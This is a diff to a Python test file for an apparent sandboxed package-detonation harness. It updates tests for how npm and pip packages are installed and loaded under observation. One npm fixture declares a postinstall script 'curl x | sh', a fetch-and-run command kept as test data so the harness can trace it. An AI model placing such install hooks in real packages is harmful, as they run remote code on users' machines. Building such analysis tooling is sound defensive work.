@@ -15,7 +15,7 @@ from assay.detonate.mapping import (
     secret_read_capability,
     write_capability,
 )
-from assay.detonate.steps import NODE, PYTHON, SH, build_plan, go_toolchain
+from assay.detonate.steps import NODE, PYTHON, SH, build_plan, go_toolchain, npm_cli
 from assay.detonate.wire import CanaryHit, Egress, HarnessLog, StepLog
 from assay.mechanism.spec import Track
 from assay.mechanism.taxonomy import CAPABILITIES
@@ -179,26 +179,45 @@ def test_skill_plan_runs_documented_invocations_and_trigger_flags(tmp_path: Path
     assert triggers.argv[2] == "notes.md"
 
 
-def test_npm_plan_runs_lifecycle_scripts_then_require(tmp_path: Path) -> None:
+def test_npm_plan_runs_npm_itself_then_prepare_then_require(tmp_path: Path) -> None:
     (tmp_path / "package.json").write_text(
         '{"name": "p", "scripts": {"preinstall": "node pre.js", "postinstall": "curl x | sh",'
-        ' "test": "node t.js"}}'
+        ' "prepare": "node build.js", "test": "node t.js"}}'
     )
     plan = build_plan(tmp_path, Track.PACKAGES, "t0k3n")
     argvs = [s.argv for s in plan.core]
-    assert argvs[0] == (NODE, "pre.js")
-    assert argvs[1] == (SH, "-c", "curl x | sh")
+    assert argvs[0] == (
+        NODE,
+        npm_cli(),
+        "rebuild",
+        "--offline",
+        "--foreground-scripts",
+        "--no-audit",
+    )
+    assert argvs[1] == (SH, "-c", "node build.js")
     assert argvs[2][:2] == (NODE, "-e") and len(argvs) == 3
     assert plan.copies == ("/task/workspace/.cache-t0k3n/node_modules/p",)
+    # How npm runs the scripts is npm's; what they start is the package's.
+    assert {("sh", "-c", "node pre.js"), ("node", "pre.js")} <= set(plan.runner_argvs)
+    assert ("sh", "-c", "curl x | sh") in plan.runner_argvs
+    assert ("curl", "x") not in plan.runner_argvs and plan.installs
 
 
-def test_pip_plan_installs_with_setuptools_then_imports(tmp_path: Path) -> None:
+def test_pip_plan_installs_with_pip_into_a_throw_away_environment(tmp_path: Path) -> None:
     (tmp_path / "pyproject.toml").write_text('[project]\nname = "x"\nversion = "1"\n')
     plan = build_plan(tmp_path, Track.PACKAGES, "t0k3n")
-    install, load = plan.core
-    assert install.argv[:3] == (PYTHON, "-c", "from setuptools import setup; setup()")
-    assert "install" in install.argv and install.cwd == "/task/workspace/.cache-t0k3n/src"
-    assert load.argv[-1] == "/task/workspace/.cache-t0k3n/site"
+    venv, install, load = plan.core
+    work = "/task/workspace/.cache-t0k3n"
+    assert venv.argv[-1] == f"{work}/env" and "--system-site-packages" in venv.argv
+    assert install.argv[0] == f"{work}/env/bin/python" and "install" in install.argv
+    assert {"--no-index", "--no-build-isolation", "--use-pep517"} <= set(install.argv)
+    assert install.argv[-1] == f"{work}/src"
+    assert load.argv == (
+        f"{work}/env/bin/python",
+        f"{work}/load.py",
+        f"{work}/env/lib/{Path(PYTHON).resolve().name}/site-packages",
+    )
+    assert plan.placeholders[f"{work}/load.py"].startswith("import importlib")
 
 
 def test_mcp_plan_reads_both_manifest_shapes(tmp_path: Path) -> None:
